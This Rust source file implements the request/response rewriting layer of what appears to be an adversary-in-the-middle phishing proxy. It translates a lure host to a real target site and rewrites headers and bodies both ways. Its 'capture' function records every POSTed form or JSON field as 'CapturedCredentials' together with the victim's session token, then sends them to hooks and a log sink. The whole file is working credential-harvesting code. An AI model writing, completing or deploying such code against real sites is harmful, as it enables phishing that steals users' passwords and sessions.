use std::borrow::Cow;
use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;

use bytes::Bytes;

use http::header::{CONTENT_ENCODING, CONTENT_LENGTH, CONTENT_TYPE, HOST, LOCATION};
use http::uri::Scheme;
use http::{HeaderMap, HeaderValue, Method, Request, Response, StatusCode};
use http_body_util::BodyExt;
use tower::Service;

use crate::error::Error;
use crate::hooks::HookBus;
use crate::http::{Body, BoxError, HttpService, UpstreamTarget, full_body};
use crate::rewrite::{BodyKind, Rewriter, TargetLocation, TargetUrl, capture_fields};
use crate::session::SessionToken;
use crate::sink::{CapturedCredentials, LogSink, Record};

use super::call_inner;

/// Tower layer that maps the client-facing host to the target and rewrites
/// both directions of the exchange.
///
/// Requests for hosts the translator does not know get a `404`. Text bodies
/// are buffered and rewritten within the body timeout; everything else
/// streams through untouched. POSTed form or JSON fields are reported as
/// captured credentials. A request host accepted provisionally in dynamic
/// mode is learned once the target has answered for it.
#[derive(Clone)]
pub struct ContentRewriter {
    rewriter: Arc<Rewriter>,
    scheme: Scheme,
    target_port: Option<u16>,
    hooks: Arc<HookBus>,
    sink: Option<LogSink>,
    body_timeout: Duration,
}

impl ContentRewriter {
    pub fn new(rewriter: Arc<Rewriter>, hooks: Arc<HookBus>) -> Self {
        Self {
            rewriter,
            scheme: Scheme::HTTPS,
            target_port: None,
            hooks,
            sink: None,
            body_timeout: Duration::from_secs(30),
        }
    }

    /// Deadline for buffering a request or response body.
    pub fn body_timeout(mut self, timeout: Duration) -> Self {
        self.body_timeout = timeout;
        self
    }

    /// Scheme used for every upstream request.
    pub fn scheme(mut self, scheme: Scheme) -> Self {
        self.scheme = scheme;
        self
    }

    /// Non-default port of the target host itself.
    pub fn target_port(mut self, port: Option<u16>) -> Self {
        self.target_port = port;
        self
    }

    /// Also write captured credentials to `sink`.
    pub fn sink(mut self, sink: Option<LogSink>) -> Self {
        self.sink = sink;
        self
    }
}

impl tower::Layer<HttpService> for ContentRewriter {
    type Service = ContentRewriterService;

    fn layer(&self, inner: HttpService) -> Self::Service {
        ContentRewriterService {
            inner: Arc::new(tokio::sync::Mutex::new(inner)),
            config: self.clone(),
        }
    }
}

pub struct ContentRewriterService {
    inner: Arc<tokio::sync::Mutex<HttpService>>,
    config: ContentRewriter,
}

fn not_found() -> Response<Body> {
    let mut resp = Response::new(full_body("Not Found"));
    *resp.status_mut() = StatusCode::NOT_FOUND;
    resp
}

fn body_kind(headers: &HeaderMap) -> Option<(BodyKind, String)> {
    let content_type = headers.get(CONTENT_TYPE)?.to_str().ok()?;
    BodyKind::from_content_type(content_type).map(|kind| (kind, content_type.to_string()))
}

fn set_length(headers: &mut HeaderMap, len: usize) {
    headers.insert(CONTENT_LENGTH, HeaderValue::from(len));
}

async fn collect_within(body: Body, limit: Duration, target: &str) -> Result<Bytes, BoxError> {
    match tokio::time::timeout(limit, body.collect()).await {
        Ok(collected) => Ok(collected?.to_bytes()),
        Err(_) => Err(Box::new(Error::Timeout {
            target: target.to_string(),
            elapsed: limit,
        })),
    }
}

impl Service<Request<Body>> for ContentRewriterService {
    type Response = Response<Body>;
    type Error = BoxError;
    type Future = Pin<Box<dyn Future<Output = Result<Response<Body>, BoxError>> + Send>>;

    fn poll_ready(&mut self, _cx: &mut Context<'_>) -> Poll<Result<(), Self::Error>> {
        Poll::Ready(Ok(()))
    }

    fn call(&mut self, req: Request<Body>) -> Self::Future {
        let inner = self.inner.clone();
        let config = self.config.clone();

        Box::pin(async move {
            let rewriter = &config.rewriter;
            let (mut parts, body) = req.into_parts();

            let host = parts
                .headers
                .get(HOST)
                .and_then(|v| v.to_str().ok())
                .or_else(|| parts.uri.host())
                .map(str::to_string);
            let Some(target_host) = host
                .as_deref()
                .and_then(|h| rewriter.translator().resolve_request_host(h))
            else {
                tracing::debug!(host = ?host, "request for unknown host");
                return Ok(not_found());
            };

            let provisional = rewriter.translator().origin_of(&target_host).is_none();
            let mut upstream = UpstreamTarget::new(config.scheme.clone(), target_host.clone());
            if let Some(port) = config.target_port
                && target_host == rewriter.translator().target().as_str()
            {
                upstream.port = port;
            }

            rewriter.rewrite_request_headers(&mut parts, &target_host);
            let path_and_query = parts.uri.path_and_query().map_or("/", |pq| pq.as_str());
            let target_url = upstream.url(path_and_query);
            parts.extensions.insert(upstream);
            parts.extensions.insert(TargetUrl(target_url.clone()));

            let body = match body_kind(&parts.headers) {
                Some((kind, content_type)) => {
                    let bytes = collect_within(body, config.body_timeout, &target_url).await?;
                    if parts.method == Method::POST {
                        capture(&config, &parts, kind, &bytes, &target_url);
                    }
                    let rewritten = match rewriter.rewrite_request_body(kind, &content_type, &bytes) {
                        Cow::Borrowed(_) => None,
                        Cow::Owned(rewritten) => Some(rewritten),
                    };
                    match rewritten {
                        Some(rewritten) => {
                            set_length(&mut parts.headers, rewritten.len());
                            full_body(rewritten)
                        }
                        None => full_body(bytes),
                    }
                }
                None => body,
            };

            let is_head = parts.method == Method::HEAD;
            let resp = call_inner(&inner, Request::from_parts(parts, body)).await?;
            if provisional {
                rewriter.translator().register(&target_host);
            }
            let (mut parts, body) = resp.into_parts();

            if let Some(location) = parts.headers.get(LOCATION).and_then(|v| v.to_str().ok()) {
                let location = TargetLocation(location.to_string());
                parts.extensions.insert(location);
            }
            rewriter.rewrite_response_headers(&mut parts);
            parts.extensions.insert(TargetUrl(target_url.clone()));

            let rewritable = !is_head
                && !parts.headers.contains_key(CONTENT_ENCODING)
                && parts.status != StatusCode::NO_CONTENT
                && parts.status != StatusCode::NOT_MODIFIED;
            let body = match body_kind(&parts.headers) {
                Some((kind, _)) if rewritable => {
                    let bytes = collect_within(body, config.body_timeout, &target_url).await?;
                    let rewritten = rewriter.rewrite_response_body(kind, &bytes, &target_url);
                    set_length(&mut parts.headers, rewritten.len());
                    full_body(rewritten)
                }
                _ => body,
            };

            Ok(Response::from_parts(parts, body))
        })
    }
}

fn capture(config: &ContentRewriter, parts: &http::request::Parts, kind: BodyKind, body: &[u8], url: &str) {
    let fields = capture_fields(kind, body);
    if fields.is_empty() {
        return;
    }
    let captured = CapturedCredentials {
        session: parts.extensions.get::<SessionToken>().map(|t| t.0.clone()),
        url: url.to_string(),
        fields,
    };
    tracing::info!(
        session = captured.session.as_deref().unwrap_or("-"),
        url = %captured.url,
        fields = captured.fields.len(),
        "captured posted fields"
    );
    config.hooks.fire_credentials_captured(&captured);
    if let Some(sink) = &config.sink {
        sink.write(&Record::Credentials(captured));
    }
}
